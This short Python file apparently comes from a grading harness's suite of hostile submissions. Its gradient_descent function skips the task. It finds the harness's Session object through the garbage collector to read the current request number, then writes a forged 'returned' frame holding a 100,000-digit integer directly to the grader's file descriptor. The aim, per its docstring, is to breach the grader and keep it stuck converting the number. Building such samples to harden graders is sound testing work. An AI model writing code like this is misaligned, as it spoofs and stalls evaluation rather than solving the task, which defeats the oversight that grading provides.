"""An integer of a hundred thousand digits.

Tries: to keep the reader converting
Must: breach
Detail: malformed
"""

import gc
import os

from autograder.codec import MAGIC, PREFIX


def number():
    """The number of the request at hand, from the loop that serves them."""
    return next(it for it in gc.get_objects() if type(it).__name__ == "Session")._request


def send(frame):
    while frame:
        frame = frame[os.write(3, frame) :]


def gradient_descent(grad, theta0, eta, n_steps):
    header = b'["returned",%d,' % number() + b'9' * 100_000 + b']'
    send(PREFIX.pack(MAGIC, len(header), 0) + header)
    return 0
